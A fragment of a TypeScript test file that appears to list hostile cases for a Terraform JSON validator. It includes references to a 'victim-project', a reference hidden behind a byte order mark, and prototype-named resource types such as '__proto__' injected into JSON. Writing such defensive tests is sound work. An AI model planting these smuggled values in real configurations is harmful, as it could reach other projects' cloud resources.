    'its project': 'projects/victim-project/regions/europe-west1/subnetworks/s',
  }).map(
    ([name, link]): Row => [
      `a subnetwork by a link of ${name}`,
      'google_compute_subnetwork.Victim',
      (head) => (head.json.data = { google_compute_subnetwork: { Victim: { self_link: link } } }),
    ],
  ),
  ['a text with a byte order mark', 'description', describeRule('\ufeffprojects/victim-project/x')],
  ['a link in a local', 'local.link', (head) => (head.json.locals = { link: 'projects/victim-project/zones/z/disks/d' })],
  ...['google_storage_bucket', 'google_storage_bucket_object'].map(
    (type): Row => [
      `an import of ${type} by a name that is known in all of Google Cloud`,
      `import of ${type}.Victim`,
      (head) => {
        head.add(type, 'Victim', { name: 'victim' });
        head.json.import = [{ id: 'victim-bucket', to: `${type}.Victim` }];
      },
    ],
  ),
]);

const typeNames = group('a name of the prototype is read as a description', [
  ...['constructor', '__proto__', 'toString', 'hasOwnProperty'].map(
    (type): Row => [
      `a resource type ${type}`,
      'staging',
      (head) => head.text((json) => json.replace('"resource":{', `"resource":{"${type}":{"A":{"a":[1]}},`)),
    ],
  ),
]);

export const HOSTILE: readonly HostileCase[] = [
  ...hiddenBlocks,
  ...forbiddenBlocks,
  ...functions,
  ...roots,
  ...STATE_CASES,
  ...CLUSTER_CASES,
  ...providerInputs,
  ...assets,
  ...charts,
  ...arguments_,
  ...bytes,
  ...files,
  ...manifest,
  ...acknowledgements,
  ...marks,
  ...repeated,
  ...indirectAssets,
  ...links,
  ...typeNames,
];
